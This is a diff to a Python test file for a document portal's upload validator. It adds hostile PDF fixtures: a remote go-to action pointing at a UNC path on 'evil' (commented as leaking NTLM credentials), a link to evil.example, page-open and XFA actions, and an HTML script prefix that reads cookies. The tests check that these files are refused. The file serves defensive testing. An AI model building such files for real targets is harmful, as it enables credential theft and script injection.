@@ -17,7 +17,7 @@ from fastapi.testclient import TestClient
 from harness import PEOPLE
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from portal.accounts.principal import Account
 from portal.app import create_app
@@ -60,6 +60,26 @@ def pdf(pages: int = 2, hostile: str | None = None) -> bytes:
             NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
     elif hostile == "encrypted":
         writer.encrypt("secret")
+    elif hostile == "gotor":  # a remote go-to: a UNC path makes Windows readers send NTLM credentials
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("\\\\evil\\share\\x.pdf"),
+            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])})
+    elif hostile == "uri":  # a link annotation opening a web address
+        writer.add_annotation(0, DictionaryObject({
+            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(99), NumberObject(99)]),
+            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
+                                                NameObject("/URI"): TextStringObject("https://evil.example/")})}))
+    elif hostile == "page_open":  # a page's additional action playing a rendition
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
+            NameObject("/S"): NameObject("/Rendition"), NameObject("/OP"): NumberObject(0)})})
+    elif hostile == "xfa":
+        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
+            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})
+    elif hostile == "goto":  # an internal go-to: accepted
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/GoTo"),
+            NameObject("/D"): ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])})
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
@@ -140,6 +160,8 @@ def archive_rows(url: str) -> int:
     (tiff(3), "sheet.tif", "image/tiff", 3),
     (pdf(2), "order.pdf", "application/pdf", 2),
     (png(colour="red"), "named-like-a.pdf", "image/png", 1),  # the name says PDF, the bytes PNG
+    (pdf(1, "goto"), "opens-at-page-1.pdf", "application/pdf", 1),  # an internal go-to is harmless
+    (b"\xef\xbb\xbf\r\n" + pdf(1), "bom.pdf", "application/pdf", 1),  # only whitespace or a BOM before %PDF-
 ])
 def test_the_type_is_decided_from_the_bytes(client, owner, content, name, media_type, pages) -> None:  # type: ignore[no-untyped-def]
     answer = attach(client, owner["source_id"], content, name)
@@ -157,6 +179,11 @@ def test_the_type_is_decided_from_the_bytes(client, owner, content, name, media_
     (pdf(1, "launch"), "pdf_launch_action"),
     (pdf(1, "embedded"), "pdf_embedded_file"),
     (pdf(1, "encrypted"), "pdf_encrypted"),
+    (pdf(1, "gotor"), "pdf_action"),
+    (pdf(1, "uri"), "pdf_action"),
+    (pdf(1, "page_open"), "pdf_action"),
+    (pdf(1, "xfa"), "pdf_xfa"),
+    (b"<html><script>alert(document.cookie)</script>" + pdf(1), "pdf_header"),
     (b"PK\x03\x04 not a scan", "unsupported_type"),
     (b"%PDF-1.7\n garbage that no parser accepts", "unreadable"),
     (b"\x89PNG\r\n\x1a\n truncated", "unreadable"),
@@ -169,7 +196,16 @@ def test_hostile_files_are_refused_with_a_stable_reason_and_change_nothing(clien
     detail = answer.json()["detail"]
     assert (detail["code"], detail["reason"], detail["file"]) == ("file_refused", reason, "scan.pdf")
     assert detail["message"].startswith("scan.pdf: ")
+    assert "/tmp" not in answer.text and "cadastre-archive-" not in answer.text  # no server path, ever
     assert archive_rows(module_database) == before
+
+
+def test_the_pixel_limit_message_names_one_limit(client, owner) -> None:  # type: ignore[no-untyped-def]
+    detail = attach(client, owner["source_id"], pixel_bomb(), "bomb.png").json()["detail"]
+    limit = client.app.state.settings.archive.max_pixels if hasattr(client.app.state, "settings") else None
+    numbers = {n.replace(",", "") for n in __import__("re").findall(r"\d[\d,]{3,}", detail["message"])}
+    assert len(numbers) == 1, detail["message"]
+    assert limit is None or numbers == {str(limit)}
 
 
 def test_every_refusal_reason_is_translated() -> None:
